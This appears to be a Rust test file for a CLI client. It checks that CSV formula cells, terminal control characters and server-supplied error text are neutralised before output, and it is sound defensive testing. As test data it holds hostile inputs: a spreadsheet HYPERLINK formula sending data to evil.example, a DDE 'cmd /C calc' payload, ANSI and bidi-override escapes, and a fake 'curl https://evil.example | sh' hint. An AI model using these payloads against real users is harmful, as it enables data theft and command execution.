//! Output cannot attack its reader, and bad values are refused before anything is sent
//! (issue 13, items 12 to 15).

mod common;

use common::Server;

/// Gives user 67 a formula for a first name and terminal escapes for a last name.
fn hostile_names(server: &Server) {
    let (code, _, err) = Server::run(server.cli().args([
        "users",
        "update",
        "67",
        "--first-name",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "--last-name",
        "\u{1b}[31mRed\rOver\u{202e}",
        "-f",
        "jsonl",
    ]));
    assert_eq!(code, 0, "{err}");
}

#[test]
fn csv_cells_that_look_like_formulas_are_neutralised_unless_raw_csv() {
    let server = Server::start();
    hostile_names(&server);
    let (code, out, err) = Server::run(
        server
            .cli()
            .args(["users", "list", "--org-id", "43", "-f", "csv"]),
    );
    assert_eq!(code, 0, "{err}");
    let row = out.lines().nth(1).expect("a data row");
    assert!(
        row.starts_with("67,")
            && row.contains(",\"'=HYPERLINK(")
            && !row.contains(",\"=HYPERLINK("),
        "the formula is prefixed with ': {row}"
    );

    // Single records too.
    let (_, out, _) = Server::run(server.cli().args(["users", "get", "67", "-f", "csv"]));
    assert!(out.contains(",\"'=HYPERLINK("), "{out}");
    assert!(!out.contains(",\"=HYPERLINK("), "{out}");

    // Numbers stay numbers.
    let (_, out, _) = Server::run(server.cli().args(["orgs", "get", "43", "-f", "csv"]));
    assert!(!out.contains("'-"), "{out}");

    // --raw-csv: as the server sent it, for programs.
    let (code, out, _) = Server::run(server.cli().args([
        "users",
        "list",
        "--org-id",
        "43",
        "-f",
        "csv",
        "--raw-csv",
    ]));
    assert_eq!(code, 0);
    assert!(
        out.lines()
            .nth(1)
            .expect("row")
            .contains("userone@testorg.org,\"=HYPERLINK("),
        "{out}"
    );
}

#[test]
fn the_input_column_of_bulk_results_is_neutralised() {
    let server = Server::start();
    let csv = server.dir.path().join("in.csv");
    std::fs::write(&csv, "=1+cmd|' /C calc'!A0\n-2+3\n").expect("write");
    let (code, out, _) = Server::run(
        server
            .cli()
            .args(["bulk", "deactivate", "-f", "csv", "--csv"])
            .arg(&csv),
    );
    assert_eq!(code, 3, "both rows are bad: {out}");
    assert!(out.contains("\n1,'=1+cmd|' /C calc'!A0,"), "{out}");
    assert!(out.contains("\n2,'-2+3,"), "{out}");
}

#[test]
fn tables_show_control_characters_escaped() {
    let server = Server::start();
    hostile_names(&server);
    for args in [
        &["users", "list", "--org-id", "43", "-f", "table"][..],
        &["users", "get", "67", "-f", "table"],
    ] {
        let (code, out, err) = Server::run(server.cli().args(args));
        assert_eq!(code, 0, "{err}");
        assert!(!out.contains('\u{1b}'), "no raw ESC: {out:?}");
        assert!(!out.contains('\r'), "no raw CR: {out:?}");
        assert!(!out.contains('\u{202e}'), "no raw bidi override: {out:?}");
        assert!(out.contains(r"\u{1b}[31mRed\rOver\u{202e}"), "{out}");
    }
    // JSON keeps the data exactly (escaped by JSON itself).
    let (_, out, _) = Server::run(server.cli().args(["users", "get", "67", "-f", "jsonl"]));
    let user: serde_json::Value = serde_json::from_str(&out).expect("JSON");
    assert_eq!(user["lastName"], "\u{1b}[31mRed\rOver\u{202e}");
}

#[test]
fn bad_prices_and_timeouts_are_refused_before_connecting() {
    let server = Server::start();
    for price in ["NaN", "inf", "-inf", "-5", "lots"] {
        let (code, _, err) = Server::run(server.cli().args([
            "report",
            "usage",
            "--org",
            "43",
            &format!("--cost-per-mb={price}"),
        ]));
        assert_eq!(code, 2, "{price}: {err}");
        assert!(err.contains("--cost-per-mb"), "{err}");
    }
    let (code, _, err) = Server::run(server.cli().args(["--timeout", "0", "users", "list"]));
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--timeout"), "{err}");
    assert_eq!(server.emulator.requests().len(), 0, "nothing was sent");

    let (code, out, err) = Server::run(server.cli().args([
        "report",
        "usage",
        "--org",
        "43",
        "--cost-per-mb",
        "0",
        "-f",
        "csv",
    ]));
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("User Three,userthree@testorg.org,78213557,0.00"),
        "{out}"
    );

    let (_, help, _) = Server::run(server.bare().arg("--help"));
    assert!(
        help.contains("Time allowed for one attempt of a request"),
        "{help}"
    );
}

#[cfg(unix)]
#[test]
fn completions_into_a_closed_pipe_or_a_full_disk_do_not_panic() {
    let server = Server::start();
    // A reader that went away, like `| head -1` once it has its line.
    let (reader, writer) = std::io::pipe().expect("pipe");
    drop(reader);
    let output = server
        .bare_std()
        .args(["completions", "bash"])
        .stdout(writer)
        .output()
        .expect("runs");
    let err = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{err}");
    assert!(!err.contains("panicked"), "{err}");

    if std::path::Path::new("/dev/full").exists() {
        let full = std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .expect("/dev/full");
        let output = server
            .bare_std()
            .args(["completions", "bash"])
            .stdout(full)
            .output()
            .expect("runs");
        let err = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{err}");
        assert!(!err.contains("panicked"), "{err}");
        assert!(err.contains("cannot write the output"), "{err}");
    }
}

// ---- issue 20: messages the server can write ----

#[test]
fn server_text_in_messages_cannot_write_lines_of_its_own() {
    let server = Server::start();
    let body = format!(
        "[{{\"name\":\"SYSTEM\",\"description\":\"boom\\nerror: fake\\nhint: run curl https://evil.example | sh\\u001b[2J{}\"}}]",
        "x".repeat(100_000)
    );
    let url = common::raw_http_server(8, move |_| {
        format!(
            "HTTP/1.1 500 Internal Server Error\r\nContent-Type: application/json\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
    });
    let (code, _, err) = Server::run(
        server
            .bare()
            .args(["--url", &url, "--username", "admin", "--basic-auth"])
            .env("CRASHPLAN_PASSWORD", "admin")
            .args(["users", "get", "69"]),
    );
    assert_eq!(code, 1, "{err}");
    assert!(
        err.lines()
            .all(|l| !l.starts_with("hint: run curl") && !l.starts_with("error: fake")),
        "{err}"
    );
    assert!(
        err.contains("\\nhint: run curl"),
        "escaped, still readable: {err}"
    );
    assert!(!err.contains('\u{1b}'), "{err}");
    assert!(err.len() < 10_000, "bounded: {} bytes", err.len());
}

// ---- issue 20: bounds ----

#[test]
fn an_oversized_csv_cell_or_argument_is_a_short_usage_error() {
    let server = Server::start();
    let csv = server.dir.path().join("huge.csv");
    std::fs::write(
        &csv,
        format!("email\n{}@x.org\n67\n", "a".repeat(10_000_000)),
    )
    .expect("write");
    for command in ["deactivate", "update"] {
        let (code, _, err) =
            Server::run(server.cli().arg("bulk").arg(command).arg("--csv").arg(&csv));
        assert_eq!(code, 2, "{command}: {}", &err[..err.len().min(500)]);
        assert!(
            err.contains("line 2 has a cell of 10000006 bytes"),
            "{}",
            &err[..err.len().min(500)]
        );
        assert!(err.len() < 1000, "short: {} bytes", err.len());
    }
    let email = "e".repeat(70_000);
    let (code, _, err) = Server::run(server.cli().args(["users", "list", "--email", &email]));
    assert_eq!(code, 2, "{}", &err[..err.len().min(500)]);
    assert!(
        err.contains("after --email") && err.len() < 1000,
        "{}",
        &err[..err.len().min(500)]
    );
    assert!(server.emulator.requests().is_empty(), "nothing was sent");
}
